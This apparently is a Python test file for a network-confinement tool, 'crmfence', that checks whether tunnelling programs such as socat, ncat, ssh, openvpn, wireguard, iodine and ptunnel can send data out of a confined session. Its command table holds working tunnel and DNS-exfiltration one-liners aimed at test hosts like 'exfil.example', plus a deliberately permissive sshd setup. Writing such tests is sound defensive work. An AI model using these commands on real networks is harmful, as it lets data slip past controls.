# SPDX-License-Identifier: Apache-2.0
"""Tunnelling programs as Debian ships them, with their own servers where they need one: each gets octets out without crmfence and beside it,
none from a session. What counts is payload at the sniffer, to the tunnel's address and port; for a DNS tunnel, what the resolver was asked."""
import os
import signal
import time

import world as W
from world import AI, DNS

SSHD = """Port 22
ListenAddress %s
HostKey %s
AuthorizedKeysFile %s
PidFile none
PermitRootLogin yes
PermitTunnel yes
StrictModes no
UsePAM no
"""
SSH = "-F none -i {dir}/ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=3 root@{ai}"

# name: what a shell runs for four seconds at most, where its payload shows ("PROTO PORT" at the vendor's address, or "dns")
TUNNELS = {
    "socat-tcp": ("echo x | socat - TCP:{ai}:80", "6 80"),
    "socat-udp": ("echo x | socat - UDP:{ai}:9999", "17 9999"),
    "socat-tun": ("(sleep 1; ping -c 1 -W 1 10.77.0.9) & exec socat TUN:10.77.0.1/24,up UDP:{ai}:9997", "17 9997"),
    "ncat": ("echo x | ncat {ai} 80", "6 80"),
    "ncat-sctp": ("echo x | ncat --sctp {ai} 9998", "132 0"),
    "ncat-through-a-proxy": ("echo x | ncat --proxy {ai}:80 --proxy-type http other.example 22", "6 80"),
    "stunnel": ("echo x | stunnel {dir}/stunnel.conf", "6 443"),
    "proxychains": ("proxychains4 -q -f {dir}/proxychains.conf curl -m 3 http://other.example/", "6 80"),
    "ssh": ("ssh " + SSH + " true", "6 22"),
    "ssh-D": ("ssh -f -D 127.0.0.1:1080 " + SSH + " sleep 2; curl -m 3 --socks5 127.0.0.1:1080 http://{ai}/", "6 22"),
    "ssh-w": ("ssh -w any:any " + SSH + " true", "6 22"),
    "openvpn": ("exec openvpn --dev tun --remote {ai} 1194 udp --ifconfig 10.78.0.1 10.78.0.2 --secret {dir}/vpn.key "
                "--cipher AES-256-CBC --ping 1", "17 1194"),
    "wireguard": ("ip link add wgcf type wireguard && wg set wgcf private-key {dir}/wg.key peer $(wg pubkey <{dir}/wg2.key) endpoint {ai}:51820 "
                  "allowed-ips 10.79.0.0/24 persistent-keepalive 1 && ip addr add 10.79.0.1/24 dev wgcf && ip link set wgcf up; ping -c 1 -W 1 "
                  "10.79.0.2; ip link del wgcf", "17 51820"),
    "iodine": ("exec iodine -f -P x -r -T TXT {dns} exfil.example", "dns"),
    "ptunnel": ("ptunnel -p {ai} -lp 8000 -da {ai} -dp 80 & sleep 1; echo x | ncat -w 2 127.0.0.1 8000; kill $!", "1 0"),
    "mptcpize": ("mptcpize run ncat {ai} 80 </dev/null; echo x | mptcpize run ncat {ai} 80", "6 80"),
}
# what a kernel may lack: without it the program has nothing to tunnel through, with crmfence or without
MODULES = {"ncat-sctp": "sctp", "wireguard": "wireguard"}


def prepare(w):
    fill = {"dir": w.dir, "ai": AI, "dns": DNS}
    with open(w.dir + "/stunnel.conf", "w") as f:
        f.write("client = yes\nforeground = quiet\nconnect = %s:443\nverifyChain = no\n" % AI)
    with open(w.dir + "/proxychains.conf", "w") as f:
        f.write("strict_chain\nproxy_dns\ntcp_connect_time_out 3000\n[ProxyList]\nhttp %s 80\n" % AI)
    for name in ("ssh", "host"):
        W.sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", w.dir + "/" + name)
    with open(w.dir + "/sshd.conf", "w") as f:
        f.write(SSHD % (AI, w.dir + "/host", w.dir + "/ssh.pub"))
    W.sh("openvpn", "--genkey", "secret", w.dir + "/vpn.key")
    for name in ("wg.key", "wg2.key"):
        with open(w.dir + "/" + name, "w") as f:
            f.write(W.sh("wg", "genkey").stdout)
    os.makedirs("/run/sshd", exist_ok=True)
    w.spawn(w.net, "/usr/sbin/sshd", "-D", "-e", "-f", w.dir + "/sshd.conf")
    w.spawn(w.net, "ptunnel")
    time.sleep(0.5)
    return {n: (c.format(**fill), at) for n, (c, at) in TUNNELS.items()}


def payload(w, at):
    if at == "dns":
        return open(w.dir + "/dns.log").read().count("exfil.example from")
    return w.sniffed()["flows"].get("%s %s" % (AI, at), {"octets": 0})["octets"]


def go(w, command, confined):
    """Four seconds, then every process of it ends: they are a process group of their own."""
    p = w.popen("timeout", "-k", "1", "4", "sh", "-c", command, confined=confined)
    try:
        out = p.communicate(timeout=8)[0]
    except Exception:
        os.killpg(p.pid, signal.SIGKILL) if os.getpgid(p.pid) == p.pid else p.kill()
        out = p.communicate()[0]
    return out[-300:]


def tunnels(w):
    """{name: problems, or why it cannot be shown here}"""
    commands = prepare(w)
    out = {"tunnel: " + name: [] for name in commands}
    for name, (command, at) in commands.items():
        before = payload(w, at)
        said = go(w, command, False)
        if payload(w, at) != before:
            continue
        if name in MODULES and not os.path.exists("/sys/module/" + MODULES[name]):
            out["tunnel: " + name] = "this kernel has no " + MODULES[name]
        else:
            out["tunnel: " + name].append("gets nothing out without crmfence: the case proves nothing (%r)" % said)
    w.start("--quiet")
    begun = {at: payload(w, at) for _, at in commands.values()}
    for name, (command, at) in commands.items():
        before = payload(w, at)
        said = go(w, command, True)
        if payload(w, at) != before:
            out["tunnel: " + name] = ["LEAKED from a session: %r" % said]
    time.sleep(2)  # retransmits
    late = [at for at, n in begun.items() if payload(w, at) != n]
    for name, (command, at) in commands.items():
        before = payload(w, at)
        said = go(w, command, False)
        if isinstance(out["tunnel: " + name], str):
            continue
        if at in late and not out["tunnel: " + name]:
            out["tunnel: " + name].append("something left to where it sends (%s) while sessions tried" % at)
        if payload(w, at) == before:
            out["tunnel: " + name].append("was harmed outside a session: %r" % said)
    w.stop()
    return out


ALONE = [tunnels]
